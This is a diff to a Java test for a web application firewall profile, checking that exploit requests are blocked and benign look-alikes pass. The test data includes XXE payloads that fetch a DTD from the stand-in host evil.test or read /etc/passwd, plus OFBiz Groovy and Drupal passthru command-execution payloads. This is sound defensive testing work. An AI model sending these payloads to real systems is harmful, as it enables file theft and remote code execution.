@@ -99,6 +99,57 @@ class WafProfileTest {
         }
     }
 
+    @Test
+    void xmlExternalEntitiesAndExploitedCvesAreBlockedAndTheirNearMissesPass() {
+        String[][] blocked = {
+            {"POST", "/api/import", "application/xml", "<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY % x SYSTEM \"http://evil.test/x.dtd\"> %x;]><foo/>"},
+            {"POST", "/api/import", "text/xml", "<?xml version=\"1.0\"?><!DOCTYPE foo SYSTEM \"http://evil.test/x.dtd\"><foo/>"},
+            {"POST", "/api/import", "text/plain", "<!DOCTYPE r [<!ENTITY x PUBLIC \"-//A//B\" \"file:///etc/passwd\">]><r>&x;</r>"},
+            {"POST", "/webtools/control/ProgramExport;/?USERNAME=&PASSWORD=&requirePasswordChange=Y", "application/x-www-form-urlencoded",
+                "groovyProgram=throw+new+Exception('id'.execute().text);"},
+            {"POST", "/webtools/control/forgotPassword/ProgramExport", "application/x-www-form-urlencoded", "groovyProgram=1"},
+            {"POST", "/webtools/control/xmlrpc", "application/xml", "<?xml version=\"1.0\"?><methodCall><methodName>x</methodName><params><param><value>"
+                + "<serializable xmlns=\"http://ws.apache.org/xmlrpc/namespaces/extensions\">rO0ABXNy</serializable></value></param></params></methodCall>"},
+            {"POST", "/?q=user/password&name[%23post_render][]=passthru&name[%23type]=markup&name[%23markup]=id", "application/x-www-form-urlencoded",
+                "form_id=user_pass&_triggering_element_name=name"},
+            {"POST", "/user/register?element_parents=account/mail/%23value&ajax_form=1", "application/x-www-form-urlencoded",
+                "form_id=user_register_form&mail[a]=b"},
+        };
+        for (String[] c : blocked) {
+            Transaction tx = request(standard, c[0], c[1], c[2], c[3]);
+            assertThat(tx.interruption()).as("standard, %s %s", c[1], tx.matchedRules()).isPresent();
+            assertThat(tx.matchedRules()).as("standard, %s", c[1]).extracting(MatchedRule::id).containsAnyOf(1992201L, 1992300L, 1992310L);
+        }
+        String[][] passed = {
+            {"POST", "/soap", "application/soap+xml", "<?xml version=\"1.0\"?><soap:Envelope xmlns:soap=\"http://www.w3.org/2003/05/soap-envelope\">"
+                + "<soap:Body><GetPrice><Item>Apples</Item></GetPrice></soap:Body></soap:Envelope>"},
+            {"POST", "/pages", "text/plain", "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\"><html/>"},
+            {"POST", "/pages", "text/plain", "<!DOCTYPE html SYSTEM \"about:legacy-compat\"><html/>"},
+            {"GET", "/webtools/control/main", null, null},
+            {"POST", "/user/register", "application/x-www-form-urlencoded", "form_id=user_register_form&name[first]=Ada&mail=ada%40example.test&tag=%23news"},
+        };
+        for (String[] c : passed) {
+            Transaction tx = request(standard, c[0], c[1], c[2], c[3]);
+            assertThat(tx.interruption()).as("standard, %s %s", c[1], tx.matchedRules()).isEmpty();
+        }
+    }
+
+    private static Transaction request(TiyiWaf waf, String method, String uri, String type, String body) {
+        if (body == null) {
+            Transaction tx = waf.newTransaction();
+            tx.processConnection("203.0.113.7", 40000, "10.0.0.1", 443);
+            tx.processUri(uri, method, "HTTP/1.1");
+            tx.addRequestHeader("Host", "shop.test");
+            tx.addRequestHeader("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0");
+            tx.addRequestHeader("Accept", "*/*");
+            if (tx.processRequestHeaders().isEmpty()) {
+                tx.processRequestBody();
+            }
+            return tx;
+        }
+        return post(waf, uri, type, bytes(body), null);
+    }
+
     private static Transaction upload(TiyiWaf waf, String filename, String content) {
         String boundary = "----tiyiupload";
         String body = "--" + boundary + "\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nMy file\r\n--" + boundary
@@ -108,9 +159,13 @@ class WafProfileTest {
     }
 
     private static Transaction post(TiyiWaf waf, String type, byte[] body, String encoding) {
+        return post(waf, "/collect", type, body, encoding);
+    }
+
+    private static Transaction post(TiyiWaf waf, String uri, String type, byte[] body, String encoding) {
         Transaction tx = waf.newTransaction();
         tx.processConnection("203.0.113.7", 40000, "10.0.0.1", 443);
-        tx.processUri("/collect", "POST", "HTTP/1.1");
+        tx.processUri(uri, "POST", "HTTP/1.1");
         tx.addRequestHeader("Host", "shop.test");
         tx.addRequestHeader("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0");
         tx.addRequestHeader("Accept", "*/*");
